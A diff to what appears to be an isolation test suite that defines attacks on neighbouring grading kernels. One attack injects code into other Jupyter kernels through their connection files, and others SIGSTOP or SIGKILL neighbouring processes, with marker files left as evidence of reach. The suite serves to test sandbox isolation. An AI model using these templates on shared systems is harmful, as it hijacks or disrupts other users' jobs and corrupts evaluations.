@@ -461,14 +461,18 @@ _mark("/tmp/@@MARKER@@.json", _blob)
            "find the other kernels' connection files (via /proc) and run code in them with their key",
            r'''
 for _pid, _cf in _kernels(wait=8):
-    _ok = _exec_in(_cf, _BREAK + "open('/tmp/@@MARKER@@-in-%d' % os.getpid(), 'w').write('@@MARKER@@ @@TOKEN@@')\n")
+    _ok = _exec_in(_cf, _BREAK + "import os\nopen('/tmp/@@MARKER@@-in-%d' % os.getpid(), 'w').write('@@MARKER@@ @@TOKEN@@')\n")
     print("ran code in kernel", _pid, _ok)
 '''),
     Attack("neighbour-sigstop", "neighbours",
            "SIGSTOP the other grading kernels",
            r'''
-for _pid, _cf in _kernels(wait=8):
+_deadline = time.time() + 8      # a correct neighbour if one shows up, else whoever runs
+while time.time() < _deadline and not any("correct" in _cwd(p) for p, _ in _kernels()):
+    time.sleep(0.2)
+for _pid, _cf in _kernels():
     os.kill(_pid, signal.SIGSTOP)
+    _mark("/tmp/@@MARKER@@-stopped-%d" % _pid)   # evidence: it could reach a neighbour
     print("stopped", _pid)
 '''),
     Attack("neighbour-sigkill", "neighbours",
@@ -480,6 +484,7 @@ for _pid in _pids():
     if _pid not in _mine and b"python" in _cmdline(_pid)[0] and _ours(_pid):
         try:
             os.kill(_pid, signal.SIGKILL)
+            _mark("/tmp/@@MARKER@@-killed-%d" % _pid)   # evidence: it could reach a neighbour
             print("killed", _pid)
         except OSError:
             pass
